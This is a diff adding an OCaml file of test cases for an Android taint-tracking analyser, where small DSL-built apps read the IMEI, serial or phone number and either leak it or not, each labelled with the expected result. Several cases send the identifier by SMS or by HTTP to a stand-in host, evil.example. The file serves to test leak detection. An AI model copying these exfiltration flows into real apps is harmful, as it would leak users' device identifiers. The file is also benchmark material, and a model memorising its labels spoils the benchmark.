@@ -1,0 +1,238 @@
+(* Field-, object- and lifecycle-sensitivity cases: flows through instance
+   fields, statics, and components whose callbacks run in sequence. *)
+
+module B = Pift_dalvik.Bytecode
+open Dsl
+
+let app = App.make
+let holder = ("DataHolder", [ "secret"; "pub" ])
+
+(* Taint stored in one field, the *other* field is sent. *)
+let field_sensitivity1 =
+  app ~name:"FieldSensitivity1" ~category:"FieldAndObjectSensitivity"
+    ~leaky:false (fun () ->
+      prog ~classes:[ holder ]
+        [
+          meth ~name:"main" ~registers:7 ~ins:0
+            (imei 0
+            @ [ B.New_instance (1, "DataHolder") ]
+            @ [ B.Iput_object (0, 1, "secret") ]
+            @ [ lit 2 "clean"; B.Iput_object (2, 1, "pub") ]
+            @ [ B.Iget_object (3, 1, "pub") ]
+            @ [ lit 4 "5554"; send_sms ~dest:4 ~msg:3; B.Return_void ]);
+        ])
+
+(* Same shape, but the tainted field is sent (reference flow: caught at
+   any window size). *)
+let field_sensitivity2 =
+  app ~name:"FieldSensitivity2" ~category:"FieldAndObjectSensitivity"
+    ~leaky:true (fun () ->
+      prog ~classes:[ holder ]
+        [
+          meth ~name:"main" ~registers:7 ~ins:0
+            (imei 0
+            @ [ B.New_instance (1, "DataHolder") ]
+            @ [ B.Iput_object (0, 1, "secret") ]
+            @ [ lit 2 "clean"; B.Iput_object (2, 1, "pub") ]
+            @ [ B.Iget_object (3, 1, "secret") ]
+            @ [ lit 4 "5554"; send_sms ~dest:4 ~msg:3; B.Return_void ]);
+        ])
+
+let object_sensitivity1 =
+  app ~name:"ObjectSensitivity1" ~category:"FieldAndObjectSensitivity"
+    ~leaky:false (fun () ->
+      prog ~classes:[ holder ]
+        [
+          meth ~name:"main" ~registers:8 ~ins:0
+            (imei 0
+            @ [ B.New_instance (1, "DataHolder");
+                B.New_instance (2, "DataHolder") ]
+            @ [ B.Iput_object (0, 1, "secret") ]
+            @ [ lit 3 "benign"; B.Iput_object (3, 2, "secret") ]
+            @ [ B.Iget_object (4, 2, "secret") ]
+            @ [ lit 5 "5554"; send_sms ~dest:5 ~msg:4; B.Return_void ]);
+        ])
+
+let object_sensitivity2 =
+  app ~name:"ObjectSensitivity2" ~category:"FieldAndObjectSensitivity"
+    ~leaky:true (fun () ->
+      prog ~classes:[ holder ]
+        [
+          meth ~name:"main" ~registers:8 ~ins:0
+            (imei 0
+            @ [ B.New_instance (1, "DataHolder");
+                B.New_instance (2, "DataHolder") ]
+            @ [ B.Iput_object (0, 1, "secret") ]
+            @ [ lit 3 "benign"; B.Iput_object (3, 2, "secret") ]
+            @ [ B.Iget_object (4, 1, "secret") ]
+            @ [ lit 5 "5554"; send_sms ~dest:5 ~msg:4; B.Return_void ]);
+        ])
+
+(* Static initialiser stores the IMEI before main's body runs. *)
+let static_initialization1 =
+  app ~name:"StaticInitialization1" ~category:"GeneralJava" ~leaky:true
+    (fun () ->
+      prog
+        [
+          meth ~name:"clinit" ~registers:2 ~ins:0
+            (imei 0 @ [ B.Sput_object (0, "Main.id"); B.Return_void ]);
+          meth ~name:"main" ~registers:4 ~ins:0
+            [
+              call0 "clinit";
+              B.Sget_object (0, "Main.id");
+              lit 1 "http://evil.example";
+              http ~url:1 ~body:0;
+              B.Return_void;
+            ];
+        ])
+
+(* Primitive data through a static field: charAt (3) -> sput (2) ->
+   sget (3) -> StringBuilder.  Outside the Fig. 11 subset. *)
+let static_field2 =
+  app ~name:"StaticField2" ~category:"GeneralJava" ~leaky:true
+    ~subset48:false (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:8 ~ins:0
+            (imei 0
+            @ [ B.Const4 (1, 3) ]
+            @ [ call "String.charAt" [ 0; 1 ]; B.Move_result 2 ]
+            @ [ B.Sput (2, "Main.c") ]
+            @ [ B.Sget (3, "Main.c") ]
+            @ sb_new ~dst:4
+            @ [ call "StringBuilder.appendChar" [ 4; 3 ];
+                B.Move_result_object 4 ]
+            @ sb_to_string ~dst:5 ~sb:4
+            @ [ lit 6 "5554"; send_sms ~dest:6 ~msg:5; B.Return_void ]);
+        ])
+
+(* Source in onCreate, sink in onResume — the callback sequence a real
+   activity would see. *)
+let activity_lifecycle1 =
+  app ~name:"ActivityLifecycle1" ~category:"Lifecycle" ~leaky:true
+    (fun () ->
+      prog
+        [
+          meth ~name:"Activity.onCreate" ~registers:2 ~ins:0
+            (imei 0 @ [ B.Sput_object (0, "Activity.id"); B.Return_void ]);
+          meth ~name:"Activity.onResume" ~registers:3 ~ins:0
+            [
+              B.Sget_object (0, "Activity.id");
+              lit 1 "5554";
+              send_sms ~dest:1 ~msg:0;
+              B.Return_void;
+            ];
+          meth ~name:"main" ~registers:1 ~ins:0
+            [
+              call0 "Activity.onCreate";
+              call0 "Activity.onResume";
+              B.Return_void;
+            ];
+        ])
+
+(* Primitive data through an instance field across callbacks: the
+   iput (4) / iget (5) hops need NI >= 5. *)
+let activity_lifecycle2 =
+  app ~name:"ActivityLifecycle2" ~category:"Lifecycle" ~leaky:true
+    (fun () ->
+      prog
+        ~classes:[ ("State", [ "code" ]) ]
+        [
+          meth ~name:"Activity.onPause" ~registers:5 ~ins:1
+            (imei 0
+            @ [ B.Const4 (1, 5) ]
+            @ [ call "String.charAt" [ 0; 1 ]; B.Move_result 2 ]
+            @ [ B.Iput (2, 4, "code"); B.Return_void ]);
+          meth ~name:"Activity.onDestroy" ~registers:7 ~ins:1
+            ([ B.Iget (0, 6, "code") ]
+            @ sb_new ~dst:1
+            @ [ call "StringBuilder.appendChar" [ 1; 0 ];
+                B.Move_result_object 1 ]
+            @ sb_to_string ~dst:2 ~sb:1
+            @ [ lit 3 "TAG"; log ~tag:3 ~msg:2; B.Return_void ]);
+          meth ~name:"main" ~registers:2 ~ins:0
+            [
+              B.New_instance (0, "State");
+              B.Invoke (B.Static, "Activity.onPause", [ 0 ]);
+              B.Invoke (B.Static, "Activity.onDestroy", [ 0 ]);
+              B.Return_void;
+            ];
+        ])
+
+(* The tainted static slot is overwritten with a constant before the
+   sink: exact tracking says clean; PIFT must untaint. *)
+let lifecycle_clear1 =
+  app ~name:"LifecycleClear1" ~category:"Lifecycle" ~leaky:false (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:8 ~ins:0
+            (body
+               ([
+                  Is (imei 0);
+                  I (B.Const4 (1, 2));
+                  I (call "String.charAt" [ 0; 1 ]);
+                  I (B.Move_result 2);
+                  I (B.Sput (2, "Main.c"));
+                ]
+               @ window_gap 8
+               @ clean_loop ~counter:4 ~bound:5 ~iterations:30
+               @ [
+                   I (B.Const16 (3, 88));
+                   I (B.Sput (3, "Main.c"));
+                   I (B.Sget (6, "Main.c"));
+                   Is (int_to_string ~dst:7 6);
+                   I (lit 1 "TAG");
+                   I (log ~tag:1 ~msg:7);
+                   I B.Return_void;
+                 ]));
+        ])
+
+let service_lifecycle1 =
+  app ~name:"ServiceLifecycle1" ~category:"Lifecycle" ~leaky:true (fun () ->
+      prog
+        [
+          meth ~name:"Service.onStartCommand" ~registers:2 ~ins:0
+            (serial 0 @ [ B.Sput_object (0, "Service.data"); B.Return_void ]);
+          meth ~name:"Service.onDestroy" ~registers:3 ~ins:0
+            [
+              B.Sget_object (0, "Service.data");
+              lit 1 "http://evil.example";
+              http ~url:1 ~body:0;
+              B.Return_void;
+            ];
+          meth ~name:"main" ~registers:1 ~ins:0
+            [
+              call0 "Service.onStartCommand";
+              call0 "Service.onDestroy";
+              B.Return_void;
+            ];
+        ])
+
+(* A "password"-style string exfiltrated as bytes over a stream.
+   Outside the subset. *)
+let private_data_leak1 =
+  app ~name:"PrivateDataLeak1" ~category:"AndroidSpecific" ~leaky:true
+    ~subset48:false (fun () ->
+      prog
+        [
+          meth ~name:"main" ~registers:4 ~ins:0
+            (phone_number 0
+            @ [ call "String.toUpperCase" [ 0 ]; B.Move_result_object 1 ]
+            @ [ call "String.getBytes" [ 1 ]; B.Move_result_object 2 ]
+            @ [ call "OutputStream.write" [ 2 ]; B.Return_void ]);
+        ])
+
+let all : App.t list =
+  [
+    field_sensitivity1;
+    field_sensitivity2;
+    object_sensitivity1;
+    object_sensitivity2;
+    static_initialization1;
+    static_field2;
+    activity_lifecycle1;
+    activity_lifecycle2;
+    lifecycle_clear1;
+    service_lifecycle1;
+    private_data_leak1;
+  ]
